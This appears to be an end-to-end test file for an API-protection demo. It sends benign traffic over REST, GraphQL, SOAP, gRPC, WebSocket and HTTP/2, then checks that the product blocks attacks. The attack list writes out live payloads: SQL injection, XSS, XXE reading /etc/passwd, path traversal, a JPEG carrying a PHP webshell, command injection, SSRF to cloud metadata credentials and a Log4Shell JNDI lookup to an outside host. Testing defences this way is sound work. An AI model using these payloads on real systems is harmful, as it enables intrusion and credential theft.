"""The API part of the demo (tests/e2e/demo.py): the demo API peers in the
server namespace, benign calls over every protocol, one attack per class
and protocol, and the spec the inventory is compared with.

Each call returns a one-line outcome the demo prints; attacks count as
blocked only when the client saw the connection reset AND the recording
peer never read a complete message carrying the attack's marker.
"""
import json
import os
import urllib.parse

import weirlab as wl

HERE = os.path.dirname(os.path.abspath(__file__))
PEERS = os.path.join(HERE, 'peers')
PY = '/usr/bin/python3'
SRV = wl.IP4_SERVER
PORT_API, PORT_H2C, PORT_GRPC, PORT_WS = 8080, 8082, 50051, 8765
API = f'http://{SRV}:{PORT_API}'
H2C = f'http://{SRV}:{PORT_H2C}'

SOAP_ACTION = 'urn:weir:demo:orders#GetOrder'
SOAP_OK = ('<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>'
           '<GetOrder xmlns="urn:weir:demo:orders"><orderId>A-1001</orderId></GetOrder></soap:Body></soap:Envelope>')
XXE = ('<?xml version="1.0"?><!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
       '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>'
       '<GetOrder xmlns="urn:weir:demo:orders"><orderId>&xxe;</orderId></GetOrder></soap:Body></soap:Envelope>')
SQLI = "1' UNION SELECT username, password FROM users--"
XSS = '<script>alert(document.cookie)</script>'
GQL_USER = 'query GetUser($id: ID!) { user(id: $id) { id email } }'
GQL_SEARCH = 'query Search($term: String!, $limit: Int) { search(term: $term, limit: $limit) { sku name } }'

# The operator's spec for the demo host. It documents nginx's files and most
# of the API, leaves out GET /api/v1/users and POST /api/v1/users/{id}/orders
# (shadow: traffic nobody documented) and deprecates the product search
# (zombie: still called).
SPEC = f"""
openapi: 3.0.3
info: {{title: demo api, version: "2.0"}}
servers: [{{url: "http://{SRV}:{PORT_API}"}}]
paths:
  /index.html: {{get: {{responses: {{'200': {{description: static page}}}}}}}}
  /api.json: {{get: {{responses: {{'200': {{description: static json}}}}}}}}
  /50m.bin: {{get: {{responses: {{'200': {{description: download}}}}}}}}
  /api/v1/login: {{post: {{responses: {{'200': {{description: ok}}}}}}}}
  /api/v1/users/{{userId}}:
    parameters: [{{name: userId, in: path, required: true, schema: {{type: string}}}}]
    get: {{responses: {{'200': {{description: ok}}}}}}
    put: {{responses: {{'200': {{description: ok}}}}}}
  /api/v1/users/{{userId}}/orders:
    parameters: [{{name: userId, in: path, required: true, schema: {{type: string}}}}]
    get: {{responses: {{'200': {{description: ok}}}}}}
  /api/v1/users/{{userId}}/orders/{{orderId}}:
    parameters:
      - {{name: userId, in: path, required: true, schema: {{type: string}}}}
      - {{name: orderId, in: path, required: true, schema: {{type: string}}}}
    get: {{responses: {{'200': {{description: ok}}}}}}
  /api/v1/users/{{userId}}/documents:
    parameters: [{{name: userId, in: path, required: true, schema: {{type: string}}}}]
    post: {{responses: {{'201': {{description: uploaded}}}}}}
  /api/v1/products:
    get:
      deprecated: true
      parameters: [{{name: q, in: query, schema: {{type: string}}}}]
      responses: {{'200': {{description: ok}}}}
  /graphql: {{post: {{responses: {{'200': {{description: ok}}}}}}}}
  /soap/orders:
    get: {{responses: {{'200': {{description: wsdl}}}}}}
    post: {{responses: {{'200': {{description: ok}}}}}}
  /weir.demo.Orders/GetUser: {{post: {{responses: {{'200': {{description: ok}}}}}}}}
  /weir.demo.Orders/SearchOrders: {{post: {{responses: {{'200': {{description: ok}}}}}}}}
  /ws/prices: {{get: {{responses: {{'101': {{description: upgrade}}}}}}}}
"""
SHADOW = {'GET /api/v1/users', 'POST /api/v1/users/{id}/orders'}
ZOMBIE = {'GET /api/v1/products'}


class Peer(wl.RecordingPeer):
    """A recording demo server; counts what it read, not the notes."""

    def records(self):
        """Messages the peer read completely (connection-closed notes left out)."""
        return sum(1 for line in self.lines() if '"closed"' not in line)


class Servers:
    """The demo API (REST/GraphQL/SOAP/multipart), gRPC, WebSocket and an
    nginx h2c front (HTTP/2 prior knowledge) in weir-server, next to the lab's nginx."""

    def __init__(self, tmp):
        self.tmp = tmp
        self.peers = []
        self.h2c_prefix = os.path.join(tmp, 'nginx-h2c')

    def start(self):
        self.api = self._peer('api', [os.path.join(PEERS, 'api_demo_server.py'), SRV, str(PORT_API)])
        self.grpc = self._peer('grpc', [os.path.join(PEERS, 'grpc_demo.py'), 'serve', SRV, str(PORT_GRPC)])
        self.ws = self._peer('ws', [os.path.join(PEERS, 'ws_demo.py'), 'serve', SRV, str(PORT_WS)])
        os.makedirs(self.h2c_prefix, exist_ok=True)
        wl.ns_run(wl.NS_SERVER, ['nginx', '-p', self.h2c_prefix + '/', '-c', os.path.join(HERE, 'nginx_h2c.conf'),
                                 '-e', os.path.join(self.h2c_prefix, 'nginx-h2c-error.log')])
        for port in (PORT_API, PORT_GRPC, PORT_WS, PORT_H2C):
            # A raw connect, no request: nothing extra in the inventory.
            wl.wait_for(lambda port=port: wl.ns_run(wl.NS_SERVER, ['bash', '-c', f'echo > /dev/tcp/{SRV}/{port}'],
                                                    check=False).returncode == 0, 10, what=f'port {port} listening')

    def _peer(self, name, argv):
        p = Peer(self.tmp, name, argv)
        self.peers.append(p)
        return p

    def records(self):
        return sum(p.records() for p in self.peers)

    def stop(self):
        for p in self.peers:
            p.stop()
        pid_file = os.path.join(self.h2c_prefix, 'nginx-h2c.pid')
        if os.path.exists(pid_file):
            wl.ns_run(wl.NS_SERVER, ['nginx', '-p', self.h2c_prefix + '/', '-c', os.path.join(HERE, 'nginx_h2c.conf'),
                                     '-s', 'stop'], check=False)


# -- clients (weir-client namespace) ---------------------------------------------
def client(args, timeout=30):
    return wl.ns_run(wl.NS_CLIENT, args, check=False, timeout=timeout)


def curl(url, *extra, http2=False):
    """(curl exit code, HTTP status text)."""
    args = ['curl', '-sS', '-g', '--max-time', '8', '-o', '/dev/null', '-w', '%{http_code}']
    if http2:
        args.append('--http2-prior-knowledge')
    res = client(args + list(extra) + [url])
    return res.returncode, res.stdout.strip()


def json_args(method, body, *headers):
    args = ['-X', method, '-H', 'Content-Type: application/json', '--data-binary', json.dumps(body)]
    for h in headers:
        args += ['-H', h]
    return args


def grpc_call(method, *payloads):
    res = client([PY, os.path.join(PEERS, 'grpc_demo.py'), 'call', SRV, str(PORT_GRPC), method,
                  *[json.dumps(p) for p in payloads], '--same-channel'], timeout=40)
    return [json.loads(line) for line in res.stdout.splitlines() if line.startswith('{')]


def ws_send(path, *msgs):
    res = client([PY, os.path.join(PEERS, 'ws_demo.py'), 'send', SRV, str(PORT_WS), path, *msgs], timeout=30)
    lines = res.stdout.strip().splitlines()
    return json.loads(lines[-1]) if lines else {'echoes': [], 'closed': f'error: {res.stderr.strip()[-120:]}'}


# -- benign traffic ----------------------------------------------------------------
def http_ok(rc_code, want=('200', '201')):
    rc, code = rc_code
    return rc == 0 and code in want, f'HTTP {code}' if code and code != '000' else f'curl exit {rc}'


def benign_calls(tmp):
    """[(protocol, what, function -> (ok, outcome text))], in the order shown."""
    doc = os.path.join(tmp, 'invoice.pdf')
    with open(doc, 'wb') as f:
        f.write(b'%PDF-1.4\n' + os.urandom(3000))
    calls = [
        ('REST', 'POST /api/v1/login',
         lambda: http_ok(curl(f'{API}/api/v1/login', *json_args('POST', {'user': 'ada', 'password': 'correct-horse'})))),
        ('REST', 'GET  /api/v1/users', lambda: http_ok(curl(f'{API}/api/v1/users')))]
    for uid in (1, 2, 3):
        calls.append(('REST', f'GET  /api/v1/users/{uid}', lambda uid=uid: http_ok(curl(f'{API}/api/v1/users/{uid}'))))
    calls.append(('REST', 'PUT  /api/v1/users/3 (JSON)',
                  lambda: http_ok(curl(f'{API}/api/v1/users/3', *json_args('PUT', {'name': 'Grace Hopper',
                                                                                   'email': 'grace@example.org',
                                                                                   'age': 85})))))
    for uid in (1, 2):
        calls.append(('REST', f'GET  /api/v1/users/{uid}/orders',
                      lambda uid=uid: http_ok(curl(f'{API}/api/v1/users/{uid}/orders'))))
    for uid, oid in ((1, 'A-1001'), (2, 'A-2002')):
        calls.append(('REST', f'GET  /api/v1/users/{uid}/orders/{oid}',
                      lambda uid=uid, oid=oid: http_ok(curl(f'{API}/api/v1/users/{uid}/orders/{oid}'))))
    calls.append(('REST', 'GET  /api/v1/products?q=engine&limit=5',
                  lambda: http_ok(curl(f'{API}/api/v1/products?q=engine&limit=5'))))
    calls.append(('REST', 'POST /api/v1/users/1/documents (multipart)',
                  lambda: http_ok(curl(f'{API}/api/v1/users/1/documents', '-F', f'doc=@{doc};type=application/pdf',
                                       '-F', 'note=march invoice'))))
    calls.append(('GraphQL', 'POST /graphql  GetUser($id)',
                  lambda: http_ok(curl(f'{API}/graphql', *json_args('POST', {'query': GQL_USER, 'operationName': 'GetUser',
                                                                             'variables': {'id': '2'}})))))
    calls.append(('SOAP', 'zeep: WSDL, then GetOrder', lambda: soap_zeep()))
    calls.append(('SOAP', 'POST /soap/orders GetOrder (curl)',
                  lambda: http_ok(curl(f'{API}/soap/orders', '-H', 'Content-Type: text/xml; charset=utf-8',
                                       '-H', f'SOAPAction: "{SOAP_ACTION}"', '--data-binary', SOAP_OK))))
    calls.append(('gRPC', '/weir.demo.Orders/GetUser x2 (HTTP/2)', lambda: grpc_ok('GetUser', {'userId': '1'},
                                                                                  {'userId': '2'})))
    calls.append(('gRPC', '/weir.demo.Orders/SearchOrders', lambda: grpc_ok('SearchOrders',
                                                                           {'userId': '1', 'query': 'engine'})))
    calls.append(('WebSocket', '/ws/prices: subscribe, unsubscribe', lambda: ws_ok()))
    calls.append(('HTTP/2', 'GET /api/v1/users/1/orders/A-1001 (h2c, curl)',
                  lambda: http_ok(curl(f'{H2C}/api/v1/users/1/orders/A-1001', http2=True))))
    calls.append(('HTTP/2', 'POST /api/v1/users/1/orders (h2c, JSON)',
                  lambda: http_ok(curl(f'{H2C}/api/v1/users/1/orders',
                                       *json_args('POST', {'item': 'difference engine', 'qty': 2}), http2=True))))
    return calls


def soap_zeep():
    res = client([PY, '-c', 'import sys, zeep; c = zeep.Client(sys.argv[1] + "?wsdl"); '
                  'print(c.service.GetOrder(orderId="A-1001").email)', f'{API}/soap/orders'], timeout=40)
    out = res.stdout.strip()
    return res.returncode == 0 and out == 'ada@example.org', f'answered ({out})' if out else 'failed'


def grpc_ok(method, *payloads):
    out = grpc_call(method, *payloads)
    ok = len(out) == len(payloads) and all(o['ok'] for o in out)
    return ok, 'status OK' + (f' x{len(out)}' if len(out) > 1 else '') if ok else f'{out}'


def ws_ok():
    msgs = [json.dumps({'action': 'subscribe', 'symbol': 'WEIR', 'depth': 5}),
            json.dumps({'action': 'unsubscribe', 'symbol': 'WEIR', 'depth': 0})]
    out = ws_send('/ws/prices', *msgs)
    ok = out['closed'] is None and len(out['echoes']) == 2
    return ok, '101 upgrade, 2 messages echoed' if ok else f'{out}'


def session_calls(sessions=3):
    """Three signed-in customers browse, order and look at the order: the
    sessions (one bearer token each) the business-flow miner learns from."""
    codes = []
    for i in range(sessions):
        auth = f'Authorization: Bearer demo-session-token-{i}'
        codes.append(curl(f'{API}/api/v1/products?q=loom&limit=3', '-H', auth)[1])
        codes.append(curl(f'{API}/api/v1/users/{i + 1}/orders',
                          *json_args('POST', {'item': 'loom', 'qty': 1}, auth))[1])
        codes.append(curl(f'{API}/api/v1/users/{i + 1}/orders/A-100{i}', '-H', auth)[1])
    return codes


# -- attacks -------------------------------------------------------------------------
def reset(rc_code):
    rc, code = rc_code
    return rc != 0 and code in ('000', '')


def attacks(servers, tmp):
    """[(protocol, attack, function -> (blocked, outcome text))]. Blocked =
    the client saw the reset and no peer read one more complete message
    (the peers record only what they read whole, attack or not)."""
    doc = os.path.join(tmp, 'report.pdf')
    with open(doc, 'wb') as f:
        f.write(b'%PDF-1.4\n' + os.urandom(1000))
    # A JPEG with a PHP webshell in its comment segment: binary bytes, read
    # only by the body_file rules (configs/rules/upload.yaml).
    jpeg = os.path.join(tmp, 'avatar.jpg')
    shell = b"<?php system($_GET['c']); ?>"
    with open(jpeg, 'wb') as f:
        f.write(b'\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xfe' +
                (len(shell) + 2).to_bytes(2, 'big') + shell + os.urandom(3000) + b'\xff\xd9')
    xml = os.path.join(tmp, 'xxe.xml')
    with open(xml, 'w') as f:
        f.write(XXE)

    def guarded(fn, benign_read=0):
        # Counts the peers' records around one attack; `benign_read`: benign
        # messages the attack's connection carried before it.
        def run():
            before = servers.records()
            blocked, text = fn()
            read = servers.records() - before - benign_read
            if blocked and read == 0:
                return True, text
            return False, f'NOT BLOCKED ({text}; the server read {read} message(s) past the benign ones)'
        return run

    def http(*curl_args, http2=False):
        def run():
            rc, code = curl(*curl_args, http2=http2)
            if reset((rc, code)):
                return True, 'blocked (connection reset)'
            return False, f'HTTP {code or "-"}, curl exit {rc}'
        return guarded(run)

    def q(s):
        return urllib.parse.quote(s, safe='')

    def grpc_attack():
        out = grpc_call('SearchOrders', {'userId': '1', 'query': SQLI})
        if len(out) == 1 and not out[0]['ok']:
            return True, f'blocked (connection reset: call failed {out[0].get("code")})'
        return False, f'call answered: {json.dumps(out)[:90]}'

    def ws_attack():
        first = json.dumps({'type': 'chat', 'text': 'hello, benign first'})
        bad = json.dumps({'type': 'chat', 'text': f'nice post {XSS}'})
        out = ws_send('/ws/prices', first, bad)
        if len(out['echoes']) == 1 and out['closed'] is not None:
            return True, 'blocked (connection reset; the benign message sent before it was echoed)'
        return False, f'{len(out["echoes"])} echoes, closed {out["closed"]}'

    orders = f'{API}/api/v1/users/1/orders'
    return [
        ('REST', 'SQLi in a query parameter', http(f'{API}/api/v1/products?q={q(SQLI)}')),
        ('REST', 'SQLi in a JSON body', http(orders, *json_args('POST', {'item': 'widget', 'note': SQLI}))),
        ('GraphQL', 'SQLi in a variable',
         http(f'{API}/graphql', *json_args('POST', {'query': GQL_SEARCH, 'operationName': 'Search',
                                                    'variables': {'term': SQLI, 'limit': 5}}))),
        ('gRPC', 'SQLi in a string field', guarded(grpc_attack)),
        ('HTTP/2', 'SQLi in a request header', http(f'{H2C}/api/v1/users/1', '-H', f'X-Customer-Note: {SQLI}',
                                                    http2=True)),
        ('WebSocket', 'XSS in a JSON message', guarded(ws_attack, benign_read=1)),
        ('SOAP', 'XXE (external entity) in the envelope',
         http(f'{API}/soap/orders', '-H', 'Content-Type: text/xml; charset=utf-8', '-H',
              f'SOAPAction: "{SOAP_ACTION}"', '--data-binary', f'@{xml}')),
        ('multipart', 'path traversal in a filename',
         http(f'{API}/api/v1/users/1/documents', '-F', f'doc=@{doc};filename=../../../../etc/cron.d/evil',
              '-F', 'note=x')),
        ('multipart', 'PHP webshell inside an uploaded JPEG',
         http(f'{API}/api/v1/users/1/documents', '-F', f'doc=@{jpeg};type=image/jpeg', '-F', 'note=avatar')),
        ('REST', 'command injection in a JSON field',
         http(orders, *json_args('POST', {'item': 'widget', 'gift_note': 'hi; cat /etc/passwd'}))),
        ('REST', 'SSRF to the cloud metadata address',
         http(orders, *json_args('POST', {'item': 'widget',
                                          'webhook': 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'}))),
        ('REST', 'Log4Shell (JNDI lookup) in User-Agent',
         http(f'{API}/api/v1/users/1', '-H', 'User-Agent: ${jndi:ldap://198.18.0.1:1389/Exploit}')),
    ]
